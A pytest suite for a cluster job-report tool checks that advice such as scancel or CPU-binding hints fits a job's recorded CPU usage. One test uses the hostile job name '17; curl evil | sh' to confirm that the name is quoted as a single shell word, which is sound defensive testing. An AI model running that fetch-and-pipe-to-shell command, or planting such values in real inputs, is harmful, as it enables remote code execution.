"""The advice of `twin job` fits what is wrong with the job: one table of causes, for events and for reports."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from tests.service.sample_state import EVENT

from clustertwin.core.channels import CPU
from clustertwin.core.errors import Overloaded
from clustertwin.core.traces import JobSpan, Trace
from clustertwin.service.outgoing.job_report import notes, render, usage_past, usage_recorded, with_cause
from clustertwin.service.store.event_store import Case
from clustertwin.telemetry.detection.events.causes import CAUSES
from clustertwin.telemetry.ingest.sources.http import Endpoint, HttpClient
from clustertwin.telemetry.recording import Recorder, Recording, trace_archive
from clustertwin.telemetry.recording.trace_archive import GrowingRecordingArchive

BUSY, SLEEPING, READING = (0.99, 0.01, 0.0, 0.0), (0.0, 0.0, 0.0, 1.0), (0.1, 0.1, 0.8, 0.0)


def recorded(directory: Path, *phases: tuple[int, list[tuple[float, ...]]]) -> Recording:
    """A job of four threads, 4711, that does this."""
    values = np.concatenate([np.repeat(np.array(does, np.float32)[:, None], s, axis=1) for s, does in phases], axis=1)
    cpus, seconds = tuple(range(4)), values.shape[1]
    with Recorder.create(directory, {"n1": cpus}) as recorder:
        recorder.append(Trace("n1", cpus, 1_000_000, CPU, values, np.ones(values.shape[:2], np.bool_)))
        recorder.label(JobSpan("4711", "n1", cpus, 1_000_000, 1_000_000 + seconds, owner="ada", name="solver"))
    return Recording.open(directory)


@pytest.mark.parametrize(
    ("cause", "advice", "phases"),
    [
        ("idle", "scancel 4711", [(1200, [BUSY] * 4), (300, [SLEEPING] * 4)]),
        ("hung-rank", "--overlap gdb", [(300, [BUSY] * 4), (60, [SLEEPING, BUSY, BUSY, BUSY])]),
        ("misbound", "--cpu-bind=cores", [(300, [BUSY, SLEEPING, SLEEPING, SLEEPING])]),
        ("stalled-io", "$TMPDIR", [(1200, [BUSY] * 4), (60, [READING] * 4)]),
    ],
)
def test_the_advice_fits_what_the_last_seconds_of_the_job_show(tmp_path, cause, advice, phases):
    usage = usage_recorded(recorded(tmp_path / "r", *phases), "4711")
    assert usage.cause == cause
    text = render(usage)
    assert advice in text
    assert "No changes suggested" not in text
    assert text.startswith("job 4711 solver of ada")
    assert max(len(line) for line in text.splitlines()) <= 78


def test_a_misbound_job_gets_every_directive_about_binding(tmp_path):
    text = "\n".join(notes(usage_recorded(recorded(tmp_path / "r", (300, [BUSY, *[SLEEPING] * 3])), "4711")))
    for word in ("--cpu-bind", "--hint", "--ntasks-per-core", "--cpus-per-task=1", "1 of 4 threads"):
        assert word in text


def test_a_job_name_in_advice_is_one_word_of_the_shell(tmp_path):
    usage = usage_recorded(recorded(tmp_path / "r", (1200, [BUSY] * 4), (300, [SLEEPING] * 4)), "4711")
    text = "\n".join(notes(replace(usage, job="17; curl evil | sh")))
    assert "scancel '17; curl evil | sh'   after" in text
    text = "\n".join(notes(replace(usage, job="*", cause="", means=np.array([SLEEPING] * 4))))
    assert text.endswith("scancel '*'")


def test_a_long_name_leaves_the_owner_of_the_job(tmp_path):
    usage = usage_recorded(recorded(tmp_path / "r", (300, [BUSY] * 4)), "4711")
    text = render(replace(usage, name="W" * 200))
    assert text.splitlines()[0].startswith(f"job 4711 {'W' * 35}… of ada ")


@pytest.mark.parametrize("length", [8, 28, 200])
def test_every_thread_of_a_node_with_a_long_name_has_its_number(tmp_path, length):
    usage = usage_recorded(recorded(tmp_path / "r", (300, [BUSY, *[SLEEPING] * 3])), "4711")
    text = render(replace(usage, threads=tuple(("n" * length, 1020 + cpu) for cpu in range(4))))
    shown = [line for line in text.splitlines() if line.startswith("nnn")]
    assert [line.split()[0].rpartition("/")[2] for line in shown] == ["1020", "1021", "1022", "1023"]
    assert length > 30 or shown[0].startswith("n" * length + "/")
    assert max(map(len, text.splitlines())) <= 78
    assert len({line.index("%") for line in text.splitlines() if line.endswith(" %")}) == 1


def test_a_healthy_job_gets_no_advice(tmp_path):
    assert notes(usage_recorded(recorded(tmp_path / "r", (300, [BUSY] * 4)), "4711")) == []


def test_the_newest_event_of_the_job_decides_unless_it_was_dismissed(tmp_path):
    usage = usage_recorded(recorded(tmp_path / "r", (300, [BUSY] * 4)), "4711")
    case = Case(replace(EVENT, jobs=("4711",), cause="leak"), None)
    assert "look for a leak" in "\n".join(notes(with_cause(usage, [case])))
    assert notes(with_cause(usage, [replace(case, verdict="dismissed")])) == []


def test_every_cause_has_advice_that_fits_the_report():
    for name, cause in CAUSES.items():
        assert cause.next_step, name
        assert cause.advice or cause.question == "new", name
        for line in cause.advice:
            assert len(line.format(job="4711", busy="10 of 128", threads=10)) <= 78, (name, line)


def test_a_long_job_is_read_an_hour_at_a_time_with_the_same_means(tmp_path, monkeypatch):
    recording = recorded(tmp_path / "r", (2000, [BUSY] * 4), (7000, [SLEEPING, *[BUSY] * 3]))
    lengths, read = [], Recording.trace

    def trace(self, node, start_s, end_s):
        lengths.append(end_s - start_s)
        return read(self, node, start_s, end_s)

    monkeypatch.setattr(Recording, "trace", trace)
    usage = usage_recorded(recording, "4711")
    assert max(lengths) <= 3600
    assert (usage.end_s - usage.start_s, len(usage.threads)) == (9000, 4)
    assert usage.busy == pytest.approx([2000 / 9000, 1, 1, 1], abs=0.01)


def test_a_request_reads_the_last_day_of_a_job(tmp_path, monkeypatch):
    monkeypatch.setattr("clustertwin.service.outgoing.job_report.PAST_JOB_S", 1000)
    recorded(tmp_path / "r", (2000, [SLEEPING] * 4), (1000, [BUSY] * 4))
    usage = usage_past(GrowingRecordingArchive(tmp_path / "r"), "4711")
    assert usage.end_s - usage.start_s == 1000
    assert usage.busy == pytest.approx([1, 1, 1, 1], abs=0.01)


@pytest.mark.medium
def test_a_request_reads_less_of_a_job_on_many_nodes(tmp_path, monkeypatch):
    """The recording of a cluster has jobs on a hundred nodes: a day of each would take a minute."""
    monkeypatch.setattr("clustertwin.service.outgoing.job_report.PAST_JOB_S", 3000)
    nodes = {f"n{i}": (0,) for i in range(16)}
    values = np.zeros((1, 4000, 4), np.float32)
    values[..., 0] = 1
    with Recorder.create(tmp_path / "r", nodes) as recorder:
        for node in nodes:
            recorder.append(Trace(node, (0,), 1_000_000, CPU, values, np.ones((1, 4000), np.bool_)))
            recorder.label(JobSpan("4711", node, (0,), 1_000_000, 1_004_000))
    for job_s, few in ((1500, 8), (600, 1)):
        monkeypatch.setattr("clustertwin.service.outgoing.job_report.FEW_NODES", few)
        usage = usage_past(GrowingRecordingArchive(tmp_path / "r"), "4711")
        assert (usage.end_s - usage.start_s, len(usage.threads)) == (job_s, 16)


def test_a_job_of_a_busy_archive_is_not_called_unknown(tmp_path, monkeypatch):
    recorded(tmp_path / "r", (300, [BUSY] * 4))
    monkeypatch.setattr(trace_archive, "_WAIT_S", 0.0)
    with trace_archive.archive_turn(), trace_archive.archive_turn(), pytest.raises(Overloaded, match="other requests"):
        usage_past(GrowingRecordingArchive(tmp_path / "r"), "4711")


def test_a_job_is_found_in_prometheus_and_read_node_by_node(monkeypatch):
    """Job 17 ran on two of the four threads of two nodes for five minutes, ten minutes ago; one of the two was busy."""
    now_s, job_s = 1_000_000_000, range(999_999_100, 999_999_400)

    def series(metric, node):
        for cpu in range(4):
            labels = {"__name__": metric, "instance": node, "cpu": str(cpu)}
            if metric == "twin_cpu_seconds_total":
                for mode in ("user", "idle"):
                    grows = (mode == "user") == (cpu == 0)
                    yield labels | {"mode": mode}, lambda second, grows=grows: str(second % 10**6 * grows)
            elif metric == "twin_job_cpu_allocated" and cpu < 2:
                yield labels | {"jobid": "17"}, lambda second: "1" if second in job_s else ""

    def get(client, path, params):
        metric, matchers, length_ms = re.fullmatch(r"(\w+)\{(.*)\}\[(\d+)ms\]", params["query"]).groups()
        end_s = int(float(params["time"]))
        seconds = range(max(end_s - int(length_ms) // 1000, now_s - 2000), end_s + 1)
        rows = [
            {"metric": labels, "values": [[second, value(second)] for second in seconds if value(second)]}
            for node in ("n1:9100", "n2:9100")
            if "instance" not in matchers or node in matchers
            for labels, value in series(metric, node)
        ]
        found = [row for row in rows if row["values"]]
        return json.dumps({"status": "success", "data": {"resultType": "matrix", "result": found}}).encode()

    monkeypatch.setattr(HttpClient, "get", get)
    usage = usage_past(trace_archive.PrometheusArchive(Endpoint("http://nowhere")), "17", now_s)
    assert usage.threads == (("n1", 0), ("n1", 1), ("n2", 0), ("n2", 1))
    assert (usage.start_s, usage.end_s, usage.running) == (job_s.start, job_s.stop, False)
    assert (usage.cause, usage.busy.tolist()) == ("misbound", [1, 0, 1, 0])
